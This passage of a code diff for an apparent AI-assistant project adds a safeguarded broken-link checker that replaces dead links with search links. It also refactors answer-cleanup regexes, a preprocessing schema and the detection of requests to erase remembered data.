-  return frozenset(compress(targets, broken))
-
-
-def _public_socket(address_info: tuple[Any, ...]) -> socket.socket:
-  family, kind, protocol, _, (address, port, *_) = address_info
-  if not is_public_site(address, port):
-    raise OSError(
-      f"{address!r} is not public, or port {port} is another service's"
-    )
-  return socket.socket(family, kind, protocol)
-
-
-async def _is_broken(
-  session: aiohttp.ClientSession, turns: asyncio.Semaphore, target: str
-) -> bool:
-  with suppress(aiohttp.ClientError, OSError, ValueError):
-    async with turns, asyncio.timeout(_SECONDS):
-      url = URL(target)
-      if url.raw_user is not None or url.raw_password is not None:
-        return False
-      async with session.get(
-        url, max_redirects=_MOST_REDIRECTS + 1
-      ) as response:
-        return (
-          400 <= response.status < 500
-          and response.status not in _MAY_PASS
-        )
-  return False
 
 
 # ---- src/adaptive/search/calibration.py ----
@@ -11469,21 +11199,13 @@ log_correction = logging.getLogger("adaptive_memory.answer")
 
 _ASKED_AT_ONCE = 2
 _STORED_SECONDS = 1.0
-_QUOTED = {
-  '"': '"',
-  "'": "'",
-  "\u201c": "\u201d",
-  "\u201e": "\u201c",
-  "\u00ab": "\u00bb",
-  "\u2018": "\u2019",
-  "(": ")",
-}
 _MOST_WANTED = 12
 _LONGEST_REPEATED = 1000
 _BETWEEN_OBJECTS = " \t\n,;"
-_OPENING_FENCE = re.compile(r"```[a-z]*\n\Z")
-_CLOSING_FENCE = "\n```"
-_JSON_DECODER = json.JSONDecoder(strict=False)
+_REPEATED = re.compile(
+  r"(?P<object>(?:```[a-z]{0,9}\n)?\{\s{0,9}[\"}][^\0]{0,1000}?\}(?:\n```)?)"
+    r"(?:[ \t\n,;]{0,20}(?P=object))+"
+)
 _TAG = re.compile(
   r"<(/?)(s|tool_codes?|tool_calls?|tool_responses?|tool_results?|tool_outputs?|function"
     r"|function_calls?|function_results?|invoke|think|thinking|reasoning|answer|response)>",
@@ -11500,9 +11222,41 @@ _MARK = (
     rf"|{_TAG.pattern})"
 )
 _MARKS = re.compile(
-  rf"(?:(?<!\s)(?P<before>\s{{1,200}}+))?{_MARK}(?P<more>(?:\s*+{_MARK})*)(?P<after>\s{{0,200}}+)",
+  f"(?P<quoted>[\\\"'\u201c\u201e\u00ab\u2018(]{_MARK}[\\\"'\u201d\u201c\u00bb\u2019)])"
+    rf"|(?:(?<!\s)(?P<before>\s{{1,200}}+))?{_MARK}(?P<more>(?:\s*+{_MARK})*)(?P<after>\s{{0,200}}+)",
   re.IGNORECASE,
 )
+_SEARCH = "https://duckduckgo.com/?q="
+_LONGEST_SEARCH = 200
+MOST_LINKS = 20
+_MOST_REDIRECTS = 5
+_SECONDS = 8.0
+_WEB_PORTS = (80, 443)
+_MAY_PASS = (408, 429)
+_HEADERS = {"User-Agent": "Mozilla/5.0 (compatible; link check)"}
+_IPV6_SITES = ipaddress.ip_network("2000::/3")
+_NO_IPV4 = "192.88.99.0/24 192.0.0.0/24 168.63.129.16/32"
+_NO_IPV6 = "2001::/23 2001:db8::/32 2002::/16 3fff::/20"
+_NO_SITES = [
+  ipaddress.ip_network(one) for one in f"{_NO_IPV4} {_NO_IPV6}".split()
+]
+_LINK = re.compile(
+  r"(?<![!\\])\[(?P<text>(?:[^\[\]\\\n]|\\.|\[[^\[\]\\\n]{0,200}\]){1,300})\]"
+    r"\([ \t]{0,9}<?(?P<target>https?:[^\s()<>]{1,2000}(?:\([^\s()]{0,500}\)[^\s()<>]{0,500}){0,3})"
+    r">?(?:[ \t]{1,9}(?:\"[^\"\n]{0,300}\"|'[^'\n]{0,300}'))?[ \t]{0,9}\)",
+  re.IGNORECASE,
+)
+_FENCE_INDENT = r"[ \t>]{0,80}"
+_CODE = re.compile(
+  rf"^{_FENCE_INDENT}(?:(?:[-*+]|\d{{1,9}}[.)])[ \t]{{1,4}})?"
+    r"(?P<fence>`{3,}(?=[^`\n]*$)|~{3,})[^\n]*(?P<body>[\s\S]*?)"
+    rf"(?:\n{_FENCE_INDENT}(?P=fence)[`~]*(?=[ \t]*(?:$|</|<\|))|\Z)"
+    r"|^(?: {4}|\t)[^\n]*$"
+    rf"|(?<![\\`])(?P<ticks>`+)(?!`)(?:(?!\n{_FENCE_INDENT}(?:\n|```|~~~))[\s\S]){{1,1000}}?"
+    r"(?<!`)(?P=ticks)(?!`)",
+  re.MULTILINE,
+)
+_WORD = re.compile(r"[^\s*_`~\\\[\]]*?[^\W_][^\s*_`~\\\[\]]*")
 
 
 class AnswerCorrection:
@@ -11572,20 +11326,14 @@ def _mark_cuts(text: str) -> list[tuple[int, int, str]]:
 
   cuts: list[tuple[int, int, str]] = []
   for marks in _MARKS.finditer(_TAG.sub(masked, text)):
-    start = marks.start()
-    end = marks.end()
     before = marks["before"] or ""
-    after = marks["after"]
-    space = before + after
-    is_inside = start > 0 and end < len(text)
-    if not is_inside:
-      cuts.append((start, end, ""))
-    elif "\n" in space:
-      cuts.append((start, end, max(after, before, key=_line_breaks)))
-    elif marks["more"] or not _is_spoken_of(
-      text, start, end, before, space
-    ):
-      cuts.append((start, end, space))
+    after = marks["after"] or ""
+    is_inside = marks.start() > 0 and marks.end() < len(text)
+    is_word = before and not marks["more"] and "\n" not in before + after
+    if is_inside and (marks["quoted"] or is_word):
+      continue
+    space = max(after, before, key=_line_breaks) if is_inside else ""
+    cuts.append((*marks.span(), space))
   return cuts
 
 
@@ -11593,65 +11341,122 @@ def _line_breaks(space: str) -> int:
   return space.count("\n")
 
 
-def _is_spoken_of(
-  text: str, start: int, end: int, before: str, space: str
-) -> bool:
-  if space:
-    return bool(before)
-  return _QUOTED.get(text[start - 1 : start]) == text[end : end + 1]
-
-
 def _json_cuts(text: str, masked: str) -> list[tuple[int, int, str]]:
-  block, last_end = _last_object(text)
-  first_end = last_end
+  end_of_text = max(0, len(text) - 3 * _LONGEST_REPEATED)
+  runs = [*_REPEATED.finditer(text, end_of_text)]
+  if not runs:
+    return []
+  block = runs[-1]["object"]
+  last_end = runs[-1].end()
   place = last_end
+  first_end = place
   repeated = 0
-  while block and text.endswith(block, 0, place):
+  while text.endswith(block, 0, place):
     first_end = place
     place -= len(block)
     repeated += 1
     while place and text[place - 1] in _BETWEEN_OBJECTS:
       place -= 1
   rest = text[last_end:].strip(_BETWEEN_OBJECTS)
-  is_stopped = bool(rest) and repeated > 1
-  is_runaway = block.startswith(rest) and (
-    is_stopped or repeated > _MOST_WANTED
-  )
+  is_runaway = block.startswith(rest) and (rest or repeated > _MOST_WANTED)
   is_code = (
-    not block.startswith("`")
-    and masked[place:last_end] != text[place:last_end]
+    block[0] != "`" and masked[place:last_end] != text[place:last_end]
   )
   return [(first_end, len(text), "")] if is_runaway and not is_code else []
 
 
-def _last_object(text: str) -> tuple[str, int]:
-  repeated = ""
-  block = ""
-  end = 0
-  at = text.find("{", max(0, len(text) - 4 * _LONGEST_REPEATED))
-  while at >= 0:
-    beginning = text[at : at + _LONGEST_REPEATED]
-    try:
-      length = _JSON_DECODER.raw_decode(beginning)[1]
-    except (ValueError, RecursionError):
-      if repeated.startswith(
-        beginning
-      ):
-        break
-      length = 1
-    else:
-      repeated = beginning[:length]
-      block, end = _with_fence(text, at, at + length)
-    at = text.find("{", at + length)
-  return block, end
+def masked_code(text: str) -> str:
+  return _CODE.sub(lambda code: "x" * len(code[0]), text)
 
 
-def _with_fence(text: str, start: int, end: int) -> tuple[str, int]:
-  opening = _OPENING_FENCE.search(text[max(0, start - 20) : start])
-  if opening is None or not text.startswith(_CLOSING_FENCE, end):
-    return text[start:end], end
-  end += len(_CLOSING_FENCE)
-  return text[start - len(opening[0]) : end], end
+def links_to_check(text: str) -> tuple[str, ...]:
+  links = _LINK.finditer(masked_code(text))
+  targets = dict.fromkeys(link["target"] for link in links)
+  checked: list[str] = []
+  for target in [*targets][:MOST_LINKS]:
+    told = f"{target} {unquote_plus(target)}"
+    if not (find_secrets(told) or find_personal_data(told)):
+      checked.append(target)
+  return tuple(checked)
+
+
+def corrected_links(text: str, broken: Collection[str]) -> str:
+  pieces: list[tuple[int, int, str]] = []
+  for link in _LINK.finditer(masked_code(text)):
+    if link["target"] not in broken:
+      continue
+    label = text[slice(*link.span("text"))]
+    words = _WORD.findall(label)
+    searched = " ".join(words) or link["target"]
+    query = quote_plus(searched[:_LONGEST_SEARCH], errors="replace")
+    pieces.append((*link.span("target"), f"{_SEARCH}{query}"))
+  return spliced(text, pieces)
+
+
+def is_public_site(address: str, port: int) -> bool:
+  try:
+    ip = ipaddress.ip_address(address)
+  except ValueError:
+    return False
+  if port not in _WEB_PORTS or not ip.is_global:
+    return False
+  if (
+    ip.is_multicast
+    or ip.is_reserved
+    or any(ip in network for network in _NO_SITES)
+  ):
+    return False
+  if isinstance(ip, ipaddress.IPv6Address):
+    return ip in _IPV6_SITES and not ip.scope_id
+  return True
+
+
+async def broken_links(
+  targets: Sequence[str], turns: asyncio.Semaphore
+) -> frozenset[str]:
+  connector = aiohttp.TCPConnector(
+    resolver=aiohttp.ThreadedResolver(),
+    use_dns_cache=False,
+    force_close=True,
+    socket_factory=_public_socket,
+  )
+  client = aiohttp.ClientSession(
+    connector=connector,
+    headers=_HEADERS,
+    cookie_jar=aiohttp.DummyCookieJar(),
+    auto_decompress=False,
+  )
+  async with client as session:
+    checks = [_is_broken(session, turns, target) for target in targets]
+    broken = await asyncio.gather(*checks)
+  return frozenset(compress(targets, broken))
+
+
+def _public_socket(address_info: tuple[Any, ...]) -> socket.socket:
+  family, kind, protocol, _, (address, port, *_) = address_info
+  if not is_public_site(address, port):
+    raise OSError(
+      f"{address!r} is not public, or port {port} is another service's"
+    )
+  return socket.socket(family, kind, protocol)
+
+
+async def _is_broken(
+  session: aiohttp.ClientSession, turns: asyncio.Semaphore, target: str
+) -> bool:
+  with suppress(aiohttp.ClientError, OSError, ValueError):
+    async with turns, asyncio.timeout(_SECONDS):
+      url = URL(target)
+      if url.raw_user is not None or url.raw_password is not None:
+        return False
+      async with session.get(
+        url, max_redirects=_MOST_REDIRECTS + 1
+      ) as response:
+        return (
+          400 <= response.status < 500
+          and response.status not in _MAY_PASS
+        )
+  return False
 
 
 # ---- src/adaptive/answer/preprocessing.py ----
@@ -11680,17 +11485,13 @@ class Preprocessing(BaseModel):
   search_query: Line = Field(default="", max_length=500)
   harmful: Score = 0
   prompt_injection_chance: Chance = 0
+  title: Annotated[
+    Line, AfterValidator(lambda line: line.strip("\"'\u201c\u201d"))
+  ] = Field(default="", max_length=120)
 
   @property
   def is_likely_injection(self) -> bool:
     return self.prompt_injection_chance >= _LIKELY_INJECTION
-
-
-class FirstPreprocessing(Preprocessing):
-
-  title: Annotated[
-    Line, AfterValidator(lambda line: line.strip("\"'\u201c\u201d"))
-  ] = Field(default="", max_length=120)
 
 
 class Preprocessor:
@@ -11743,10 +11544,7 @@ class Preprocessor:
       return ""
     hook.state["language"] = _language(hook, findings)
     self._flag(hook, findings)
-    if (
-      isinstance(findings, FirstPreprocessing)
-      and hook.told_kind == "saved"
-    ):
+    if first and hook.told_kind == "saved":
       policy = gate_policy(hook.settings)
       is_safe = await asyncio.to_thread(
         is_safe_label, findings.title, policy
@@ -11761,7 +11559,6 @@ class Preprocessor:
   async def _findings(
     self, hook: Hook, messages: Sequence[Message], *, first: bool
   ) -> Preprocessing:
-    fields = FirstPreprocessing if first else Preprocessing
     asked = _TITLE_ASKED if first else dict.fromkeys(_TITLE_ASKED, "")
     settings = hook.settings
     judges = settings.use_llm_for_relevance
@@ -11773,12 +11570,12 @@ class Preprocessor:
         render_prompt("preprocess", "", asked),
         f"## Conversation\n{conversation}",
         "preprocessing",
-        fields_schema(fields),
+        fields_schema(Preprocessing),
         700,
       )
       model = await hook.completer()
       return await ask_fields(
-        model, self._formats, fields, request, seconds
+        model, self._formats, Preprocessing, request, seconds
       )
 
   def _flag(self, hook: Hook, findings: Preprocessing) -> None:
@@ -14343,14 +14140,13 @@ def withheld(body: dict[str, Any]) -> dict[str, Any]:
 HOW_TO_ERASE = (
   "To have what is remembered about you erased, type /forget everything."
 )
-_MONTHS = [tuple(heads.split()) for heads in word_table("months")["heads"]]
+_MONTHS = pattern_table("personal_shapes")["MONTH"]
 _DATES = (
   "(?:(?P<y>\\d{4})[-\u5e74]|(?=\\d\\d?\u6708))(?P<m>\\d{1,2})[-\u6708](?P<d>\\d{1,2})\u65e5?",
   r"(?P<d>\d{1,2})(?:st|nd|rd|th|er|o)?[ ./-]{1,2}(?:of |de )?(?P<m>\d{1,2}|[^\W\d]{3,})"
     "[ .,/-]*(?:de )?(?P<y>\\d{4})?(?: \u0433\u043e\u0434\u0430)?",
   r"(?P<m>[^\W\d]{3,}) (?P<d>\d{1,2})(?:st|nd|rd|th)?,? ?(?P<y>\d{4})?",
 )
-_YEARS_BACK = 9
 _LONGEST_REQUEST = 160
 _SENTENCE_END__spoken_requests = re.compile("(?<=[.!?\u3002\uff01\uff1f\u0964\u061f])|\\n")
 _LONGEST_READ = 2000
@@ -14393,6 +14189,17 @@ class _ReadMessage:
     self.tells_or_asks = (
       is_told or "?" in folded
     ) and "polite" not in self.kinds
+
+  def order(self, unknown: int = 0) -> Sequence[WordKinds]:
+    for words in (self.words, self.words[::-1]):
+      left = unknown
+      for place, word in enumerate(words):
+        if word & _VERBS:
+          return words[: place + 2]
+        left -= word == _UNKNOWN__spoken_requests
+        if left < 0 or not word & _AROUND_A_VERB:
+          break
+    return ()
 
   @property
   def requested(self) -> WordKinds:
@@ -14444,19 +14251,11 @@ def _scope_of(kinds: WordKinds) -> ErasureScope | None:
 def nearly_asks_to_erase(words: str) -> bool:
   message = _ReadMessage(_folded(words))
   kinds = message.kinds
-  unknown = message.words.count(_UNKNOWN__spoken_requests)
-  if (
-    message.tells_or_asks
-    or "negated" in kinds
-    or 2 * unknown > len(message.words)
-  ):
+  is_known = 2 * message.words.count(_UNKNOWN__spoken_requests) <= len(message.words)
+  is_about_memory = kinds & {"memories", "me"} or kinds >= {"data", "my"}
+  if not is_known or not is_about_memory or "negated" in kinds:
     return False
-  if "memories" in kinds or ("data" in kinds and kinds & {"me", "my"}):
-    return bool(
-      _up_to_verb(message.words, _ADVERBS)
-      or _up_to_verb(message.words[::-1])
-    )
-  return "me" in kinds and bool(_up_to_verb(message.words))
+  return bool(message.order(_ADVERBS)) and not message.tells_or_asks
 
 
 def sentences_to_forget(words: str) -> str:
@@ -14466,40 +14265,24 @@ def sentences_to_forget(words: str) -> str:
 
 def _orders_to_forget(sentence: str) -> bool:
   message = _ReadMessage(_folded(sentence[:_LONGEST_REQUEST]))
-  opening = _up_to_verb(message.words) or _up_to_verb(message.words[::-1])
-  is_negated = any("negated" in word for word in opening)
-  return bool(opening) and not is_negated and not message.tells_or_asks
-
-
-def _up_to_verb(
-  words: Sequence[WordKinds], unknown: int = 0
-) -> Sequence[WordKinds]:
-  for place, word in enumerate(words):
-    if word & _VERBS:
-      return words[: place + 2]
-    unknown -= word == _UNKNOWN__spoken_requests
-    if unknown < 0 or not word & _AROUND_A_VERB:
-      break
-  return ()
+  order = message.order()
+  is_negated = any("negated" in word for word in order)
+  return bool(order) and not is_negated and not message.tells_or_asks
 
 
 def _without_day(folded: str, today: date) -> tuple[str, date | None]:
   for form in _DATES:
-    for match in re.finditer(form, folded):
-      day = _last_day(match, today)
-      if day is not None:
-        return (
-          f"{folded[: match.start()]} {folded[match.end() :]}",
-          day,
-        )
+    named = re.search(form, folded)
+    day = _last_day(named, today) if named else None
+    if named and day:
+      return folded.replace(named[0], " "), day
   return folded, None
 
 
 def _last_day(named: re.Match[str], today: date) -> date | None:
-  years = range(today.year, today.year - _YEARS_BACK, -1)
-  for year in [int(named["y"])] if named["y"] else years:
+  for year in [named["y"]] if named["y"] else [today.year, today.year - 1]:
     with suppress(ValueError):
-      day = date(year, _month(named["m"]), int(named["d"]))
+      day = date(int(year), _month(named["m"]), int(named["d"]))
       if day <= today:
         return day
   return None
@@ -14508,14 +14291,8 @@ def _last_day(named: re.Match[str], today: date) -> date | None:
 def _month(name: str) -> int:
   if name.isdecimal():
     return int(name)
-  return next(
-    (
-      month
-      for month, heads in enumerate(_MONTHS, 1)
-      if name.startswith(heads)
-    ),
-    0,
-  )
+  heads = enumerate(_MONTHS, 1)
+  return next((month for month, head in heads if re.match(head, name)), 0)
 
 
 def asks_to_restore(words: str) -> bool:
